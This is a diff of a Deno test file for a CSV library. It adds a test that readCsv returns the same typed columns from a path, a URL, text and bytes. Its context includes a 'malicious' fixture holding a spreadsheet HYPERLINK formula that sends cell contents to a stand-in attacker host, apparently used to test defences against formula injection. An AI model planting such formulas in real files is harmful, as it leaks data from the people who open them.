@@ -2,6 +2,7 @@ import "@uwdata/flechette";
 import * as aq from "arquero";
 import { assertEquals, assertMatch, assertRejects } from "../assert.ts";
 import { CxOptionsError, CxSchemaError, readCsv, toCsv, writeCsv } from "../../src/mod.ts";
+import { CodedColumn, InstantColumn } from "../../src/kernels/columns.ts";
 
 const malicious = [
   '=HYPERLINK("http://evil.example/?d="&A1,"Klick")',
@@ -188,4 +189,33 @@ Deno.test("slash dates: day/month order detected per column, ambiguity warned", 
     dateFormat: "MM/DD/YYYY",
   });
   assertEquals(forced.table.get("date", 0), new Date("2024-03-04T00:00:00Z"));
+});
+
+Deno.test("readCsv returns compact columns, the same from a path, a URL, text and bytes", async () => {
+  const text = "response_id;date;nps_score;channel\r\nr1;05.01.2024;9;chat\r\nr2;06.01.2024;7;\r\n";
+  const path = await Deno.makeTempFile({ suffix: ".csv" });
+  try {
+    await Deno.writeTextFile(path, text);
+    const results = await Promise.all(
+      [path, new URL(`file://${path}`), text, new TextEncoder().encode(text)].map((s) =>
+        readCsv(s, { schema: "responses" })
+      ),
+    );
+    for (const { table } of results) {
+      assertEquals(table.column("channel") instanceof CodedColumn, true);
+      assertEquals(table.column("date") instanceof InstantColumn, true);
+      assertEquals(table.objects(), [
+        {
+          response_id: "r1",
+          date: new Date("2024-01-05T00:00:00Z"),
+          nps_score: 9,
+          channel: "chat",
+        },
+        { response_id: "r2", date: new Date("2024-01-06T00:00:00Z"), nps_score: 7, channel: null },
+      ]);
+    }
+    assertEquals(results.map((r) => r.summary.source), [path, path, "text", "bytes"]);
+  } finally {
+    await Deno.remove(path);
+  }
 });
